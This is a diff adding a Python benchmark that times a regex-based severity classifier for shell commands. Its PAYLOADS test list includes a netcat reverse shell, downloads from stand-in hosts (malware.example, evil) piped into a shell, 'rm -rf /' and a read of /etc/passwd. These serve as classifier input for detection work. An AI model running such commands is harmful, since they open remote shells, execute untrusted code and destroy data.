@@ -0,0 +1,70 @@
+#!/usr/bin/env python3
+"""
+bench_rules.py
+
+Micro-benchmark for the compiled severity classifier (rules.CompiledPack).
+For each rule-set size, generates that many synthetic literal rules on top of
+the default pack, compiles them into one regex and classifies a fixed corpus of
+payloads (the simulator's PAYLOADS templates plus random shell-like noise).
+
+Usage:
+    python bench_rules.py                         # sizes 10 100 1000 10000
+    python bench_rules.py --sizes 10 10000 --payloads 50000
+"""
+import argparse, random, string, time
+from rules import CompiledPack, DEFAULT_PACK
+
+PAYLOADS = [
+    "ls -la", "pwd", "whoami", "cat /etc/hosts", "echo hello",
+    "sudo apt update", "nmap -sV 192.168.1.1", "nc -e /bin/sh 10.0.0.5 4444", "cat /etc/passwd",
+    "rm -rf /", "wget http://malware.example/payload.sh -O /tmp/x.sh; sh /tmp/x.sh",
+    "curl http://evil/x.sh | sh", "python -c 'import socket;...'",
+    "uname -a", "cat /proc/cpuinfo | grep name | wc -l",
+]
+SEVERITIES = ["low", "medium", "high", "critical"]
+
+def synthetic_pack(n, seed=1):
+    rnd = random.Random(seed)
+    rules = list(DEFAULT_PACK["rules"])
+    seen = {r["pattern"] for r in rules}
+    while len(rules) < n:
+        words = ["".join(rnd.choices(string.ascii_lowercase, k=rnd.randint(3, 9)))
+                 for _ in range(rnd.choice([1, 1, 1, 2]))]
+        pattern = " ".join(words)
+        if pattern in seen:
+            continue
+        seen.add(pattern)
+        rules.append({"pattern": pattern, "tag": words[0], "severity": rnd.choice(SEVERITIES)})
+    return {"escalation": DEFAULT_PACK["escalation"], "rules": rules[:n]}
+
+def corpus(n, seed=2):
+    rnd = random.Random(seed)
+    out = []
+    for _ in range(n):
+        if rnd.random() < 0.6:
+            out.append(rnd.choice(PAYLOADS))
+        else:
+            out.append(" ".join("".join(rnd.choices(string.ascii_lowercase + "/-.", k=rnd.randint(2, 10)))
+                                for _ in range(rnd.randint(1, 8))))
+    return out
+
+def main(sizes, n_payloads):
+    payloads = corpus(n_payloads)
+    print(f"{'rules':>8} {'compile s':>10} {'payloads/s':>12} {'us/payload':>11}")
+    for n in sizes:
+        t0 = time.perf_counter()
+        pack = CompiledPack(synthetic_pack(n))
+        compile_s = time.perf_counter() - t0
+        classify = pack.classify
+        t0 = time.perf_counter()
+        for p in payloads:
+            classify(p)
+        elapsed = time.perf_counter() - t0
+        print(f"{n:>8} {compile_s:>10.3f} {n_payloads / elapsed:>12,.0f} {elapsed / n_payloads * 1e6:>11.2f}")
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Benchmark the compiled severity classifier")
+    parser.add_argument("--sizes", type=int, nargs="+", default=[10, 100, 1000, 10000], help="rule-set sizes")
+    parser.add_argument("--payloads", type=int, default=100000, help="payloads classified per size")
+    args = parser.parse_args()
+    main(args.sizes, args.payloads)